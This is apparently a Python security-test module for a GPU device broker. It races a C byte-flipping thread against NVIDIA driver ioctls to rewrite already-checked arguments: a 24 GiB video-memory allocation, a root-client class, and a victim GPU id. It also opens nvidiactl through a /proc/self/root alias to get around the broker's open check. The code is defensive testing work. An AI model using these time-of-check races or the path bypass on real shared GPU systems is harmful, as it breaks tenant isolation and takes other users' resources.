"""Racing-thread attacks: calls the broker lets the kernel continue in the tenant.

With driver files in the tenant (seccomp front end, real backend) a few decided calls run in
the tenant's own kernel context (allow.Rule.in_caller), and the kernel reads their argument
again after the broker decided. These attacks rewrite the argument from a second thread while
the first is in the ioctl. The rewriting thread is a C loop (built here with gcc: a Python
loop spends most of its time between writes, and holds the GIL), so it runs in parallel with
the ioctl. docs/security.md has the table of why each continued call is still safe.

- ``race-nvos02-class``: NV_ESC_RM_ALLOC_MEMORY of an OS descriptor (0x71, continued: the
  driver pins the caller's pages) rewritten into 24 GiB of NV01_MEMORY_LOCAL_USER (0x40).
  Not preventable from outside the process; the broker detects it from the driver's own
  per-process accounting and ends the process. Run in a child process: if the race is won,
  that child is what the broker kills.
- ``race-root-class``: the first root-client allocation on a fresh nvidiactl (continued)
  rewritten to another class: with no client on that file, nothing but a root client can
  come of it.
- ``race-direct-open``: the node opened by a path the broker's open check does not know
  (``/proc/self/root/dev/nvidiactl``): the kernel opens the real device, and every ioctl and
  mmap of that file must be refused.

They need the real driver (the emulated backend's files are placeholders that continue
nothing); the harness lists them N/A elsewhere.

One race is not about a continued call: ``race-checked-gpu-id`` flips the GPU id in the
parameter block of GET_ID_INFO_V2 between the attacker's GPU and the victim's while the
broker decides it (a *checked* control of the lane, broker/fastlane.py, or the general
steps). The broker decides on its private copy and the driver answers that copy, so an
answer naming the victim's GPU would mean the two saw different ids. It runs with every
backend and front end that has a victim's GPU.
"""
from __future__ import annotations

import ctypes
import fcntl
import json
import mmap
import os
import select
import shutil
import signal
import subprocess
import tempfile
import threading
import time

from devbroker.abi import iowr
from devbroker.abi import status as nvs
from devbroker.escape.outcome import Outcome, escaped, refused

GiB = 1 << 30

FLIP_C = r"""
void flip(volatile unsigned char *dst, const unsigned char *a, const unsigned char *b,
          unsigned long len, volatile int *stop)
{
    while (!*stop) {
        for (unsigned long i = 0; i < len; i++) dst[i] = a[i];
        for (volatile int s = 0; s < 64; s++) ;
        for (unsigned long i = 0; i < len; i++) dst[i] = b[i];
        for (volatile int s = 0; s < 64; s++) ;
    }
}
"""
_flip = None


def _flip_lib():
    global _flip
    if _flip is None:
        d = tempfile.mkdtemp(prefix="devbroker-flip-")
        try:
            src, so = os.path.join(d, "flip.c"), os.path.join(d, "flip.so")
            with open(src, "w") as f:
                f.write(FLIP_C)
            subprocess.run(["gcc", "-O2", "-shared", "-fPIC", "-o", so, src], check=True,
                           capture_output=True, timeout=60)
            _flip = ctypes.CDLL(so)
        finally:
            # Loaded (mapped) by now, or failed: the files are of no further use.
            shutil.rmtree(d, ignore_errors=True)
        _flip.flip.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p,
                               ctypes.c_ulong, ctypes.c_void_p]
    return _flip


class Flipper:
    """Rewrites buf[offset:offset+len(a)] alternately with a and b while in use."""

    def __init__(self, buf, offset: int, a: bytes, b: bytes):
        self.stop = ctypes.c_int(0)
        lib = _flip_lib()
        self.t = threading.Thread(target=lib.flip, args=(
            ctypes.addressof(buf) + offset, a, b, len(a), ctypes.addressof(self.stop)),
            daemon=True)

    def __enter__(self):
        self.t.start()
        return self

    def __exit__(self, *exc):
        self.stop.value = 1
        self.t.join()
        return False


def nvos02_class(client, tries: int = 300) -> dict:
    """One process's attempts; returns what it saw (the broker may kill it instead)."""
    c = client
    g = c.gpu
    gfd = c.gpu_fds[g["minor"]]
    spec = c.abi.escape("NV_ESC_RM_ALLOC_MEMORY")
    page = mmap.mmap(-1, 2 << 20)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    statuses: dict[str, int] = {}
    for i in range(tries):
        h = 0xBEEF0000 + i
        params = c.new("NVOS02_PARAMETERS", hRoot=c.hclient, hObjectParent=g["hdevice"],
                       hObjectNew=h, hClass=0x71, flags=0x40001010, pMemory=base,
                       limit=(2 << 20) - 1)
        v = c.new("nv_ioctl_nvos02_parameters_with_fd", params=params, fd=-1)
        raw = v.encode()
        buf = ctypes.create_string_buffer(raw, len(raw))
        ps = v.spec.by_name["params"].offset
        cls_off = ps + params.spec.by_name["hClass"].offset
        end = ps + params.spec.by_name["limit"].offset + 8
        # hClass, flags, pMemory and limit are one block: flipped whole, the kernel reads
        # either the decided call or a consistent 24 GiB video-memory request.
        good = raw[cls_off:end]
        evil = bytearray(good)
        evil[0:4] = (0x40).to_bytes(4, "little")
        evil[4:8] = (0).to_bytes(4, "little")
        evil[-8:] = (24 * GiB - 1).to_bytes(8, "little")
        with Flipper(buf, cls_off, bytes(evil), good):
            try:
                fcntl.ioctl(gfd, iowr(spec.number, len(raw)), buf, True)
                err = 0
            except OSError as e:
                err = e.errno
        got = v.spec.decode(buf.raw)
        st = nvs.name(got.params.status) if not err else f"errno {err}"
        statuses[st] = statuses.get(st, 0) + 1
        # The driver writes the parameters back as it read them: NV_OK with class 0x40 is
        # the rewritten request allocated.
        if not err and got.params.status == nvs.NV_OK and got.params.hClass == 0x40:
            time.sleep(3)  # the quota watch looks 50 ms after the call, then every second or less
            return {"won": True, "alive": True, "statuses": statuses}
        if not err and got.params.status == nvs.NV_OK:
            c.free(g["hdevice"], h)
    return {"won": False, "tries": tries, "statuses": statuses}


def a_race_nvos02_class(ctx):
    try:
        _flip_lib()
    except (OSError, subprocess.SubprocessError) as e:
        return Outcome("error", "", f"cannot build the racing thread's loop (gcc): {e}")
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # the racing process: its own client, its own GPU file
        os.close(r)
        code = 0
        try:
            from devbroker.tools.probe import Client

            c = Client()
            c.check_version()
            c.open_root()
            c.gpu = c.open_gpu(c.attached_ids()[0])
            os.write(w, json.dumps(nvos02_class(c)).encode())
        except BaseException as e:  # noqa: BLE001 - reported to the parent
            os.write(w, json.dumps({"error": f"{type(e).__name__}: {e}"}).encode())
            code = 1
        os._exit(code)
    os.close(w)
    data = b""
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        ready, _, _ = select.select([r], [], [], 1.0)
        if ready:
            chunk = os.read(r, 65536)
            if not chunk:
                break
            data += chunk
    os.close(r)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL:
        return refused("KILLED", "the race was won and the broker ended the process (the "
                       "driver's accounting showed device memory beyond the quota)")
    try:
        res = json.loads(data or b"{}")
    except ValueError:
        res = {"error": f"unreadable result {data[:200]!r}"}
    if "error" in res:
        return Outcome("error", "", res["error"])
    if res.get("won"):
        return escaped("allocated 24 GiB of video memory through a rewritten continued call, "
                       "and was still alive 3 s later", "WON")
    return refused("NOT_WON", f"{res.get('tries')} tries; the kernel ran the decided call "
                   f"each time: {res.get('statuses')}")


def a_race_root_class(ctx, tries: int = 200):
    c0 = ctx.client()
    abi = c0.abi
    try:
        _flip_lib()
    except (OSError, subprocess.SubprocessError) as e:
        return Outcome("error", "", f"cannot build the racing thread's loop (gcc): {e}")
    spec = abi.escape("NV_ESC_RM_ALLOC")
    results: dict[str, int] = {}
    for _ in range(tries):
        fd = os.open("/dev/nvidiactl", os.O_RDWR | os.O_CLOEXEC)
        p = abi.struct("NV_MEMORY_ALLOCATION_PARAMS")
        mem = ctypes.create_string_buffer(p.decode(bytes(p.size)).replace(
            size=24 * GiB, alignment=2 << 20, flags=0x1C101, attr=0x18000000).encode())
        v = abi.struct("NVOS64_PARAMETERS")
        raw = v.decode(bytes(v.size)).replace(hClass=0x41).encode()
        buf = ctypes.create_string_buffer(raw, len(raw))
        ctypes.memmove(ctypes.addressof(buf) + v.by_name["pAllocParms"].offset,
                       ctypes.addressof(mem).to_bytes(8, "little"), 8)
        off = v.by_name["hClass"].offset
        with Flipper(buf, off, (0x40).to_bytes(4, "little"), (0x41).to_bytes(4, "little")):
            try:
                fcntl.ioctl(fd, iowr(spec.number, len(raw)), buf, True)
                err = 0
            except OSError as e:
                err = e.errno
        got = v.decode(buf.raw)
        os.close(fd)
        if not err and got.status == nvs.NV_OK and got.hClass not in (0x0, 0x41):
            return escaped(f"class {got.hClass:#x} allocated on a fresh nvidiactl", "WON")
        key = f"errno {err}" if err else f"{nvs.name(got.status)} read as {got.hClass:#x}"
        results[key] = results.get(key, 0) + 1
    return refused("ROOT_CLIENT_ONLY", f"{tries} tries: {results}")


def a_race_direct_open(ctx):
    c0 = ctx.client()
    try:
        fd = os.open("/proc/self/root/dev/nvidiactl", os.O_RDWR | os.O_CLOEXEC)
    except OSError as e:
        return Outcome("error", "", f"the node is not there to open: {e}")
    try:
        spec = c0.abi.escape("NV_ESC_RM_ALLOC")
        v = c0.abi.struct("NVOS64_PARAMETERS")
        buf = bytearray(v.decode(bytes(v.size)).replace(hClass=0x41).encode())
        try:
            fcntl.ioctl(fd, iowr(spec.number, len(buf)), buf, True)
            return escaped(f"a root client on a file the broker did not give out "
                           f"({nvs.name(v.decode(bytes(buf)).status)})")
        except OSError as e:
            got = e.errno
        try:
            m = mmap.mmap(fd, 4096)
            m.close()
            return escaped("mapped a file the broker did not give out")
        except OSError:
            pass
        import errno as _errno

        return refused(_errno.errorcode.get(got, str(got)), "ioctl and mmap both refused")
    finally:
        os.close(fd)


def a_race_checked_gpu_id(ctx, tries: int = 1000):
    """GET_ID_INFO_V2 with its gpuId flipped between the attacker's GPU and the victim's by a
    racing thread: every answer must be the attacker's GPU's (its device instance) or a
    refusal."""
    c = ctx.client()
    try:
        _flip_lib()
    except (OSError, subprocess.SubprocessError) as e:
        return Outcome("error", "", f"cannot build the racing thread's loop (gcc): {e}")
    own, victim = c.gpu["gpu_id"], ctx.victim["gpu_ids"][str(ctx.victim_gpu)]
    own_inst = c.control(c.hclient, 0x205, c.params(0x205, gpuId=own)).deviceInstance
    spec = c.abi.control(0x205).params
    f = spec.by_name
    buf = ctypes.create_string_buffer(spec.size)
    base = ctypes.addressof(buf)
    inst_at = f["deviceInstance"].offset
    hdr = bytearray(c.new("NVOS54_PARAMETERS", hClient=c.hclient, hObject=c.hclient,
                          cmd=0x205, params=base, paramsSize=spec.size).encode())
    nr = c.abi.escape_cmd("NV_ESC_RM_CONTROL", len(hdr))
    seen: dict[str, int] = {}
    with Flipper(buf, f["gpuId"].offset, own.to_bytes(4, "little"), victim.to_bytes(4, "little")):
        for _ in range(tries):
            ctypes.c_uint32.from_address(base + inst_at).value = 0xFFFF
            arg = bytearray(hdr)
            try:
                fcntl.ioctl(c.ctl, nr, arg, True)
            except OSError as e:
                seen[f"errno {e.errno}"] = seen.get(f"errno {e.errno}", 0) + 1
                continue
            status = int.from_bytes(arg[28:32], "little")
            inst = ctypes.c_uint32.from_address(base + inst_at).value
            if status == nvs.NV_OK and inst != own_inst:
                return escaped(f"GET_ID_INFO_V2 answered for device instance {inst} (the "
                               f"attacker's is {own_inst}) with the id flipped to the "
                               f"victim's {victim:#x}", "WON")
            key = "own GPU answered" if status == nvs.NV_OK else nvs.name(status)
            seen[key] = seen.get(key, 0) + 1
    if nvs.name(nvs.NV_ERR_INVALID_ARGUMENT) not in seen:
        return Outcome("error", "", f"the flipped id never reached the broker's check: {seen}")
    return refused("NOT_WON", f"{tries} tries: {seen}")

